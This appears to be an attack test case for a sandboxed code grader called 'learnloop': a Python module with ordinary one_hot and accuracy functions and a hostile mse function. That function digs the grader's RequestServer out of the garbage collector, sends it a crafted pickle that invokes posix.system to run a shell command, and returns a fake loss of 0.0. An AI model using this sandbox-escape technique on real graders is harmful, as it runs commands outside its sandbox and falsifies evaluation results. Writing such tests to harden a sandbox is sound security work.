# Attack: a pickle that would run a command in the grader
# Promise: Nothing is unpickled
# Target: mse
# Honest: one_hot, accuracy
import numpy as np

gc = __builtins__["__import__"]("gc")
sys = __builtins__["__import__"]("sys")
worker = next(each for each in gc.get_objects() if type(each).__name__ == "RequestServer")
protocol = sys.modules["learnloop.sandbox.protocol"]


def mse(pred, target):
    pickle = b"cposix\nsystem\n(S'touch OPEN-FOLDER/learnloop-attack'\ntR."
    worker._channel.send(pickle)
    return 0.0


def one_hot(labels, n_classes):
    rows = np.zeros((len(labels), n_classes))
    rows[np.arange(len(labels)), labels] = 1.0
    return rows


def accuracy(logits, labels):
    return np.mean(logits.argmax(axis=1) == labels)
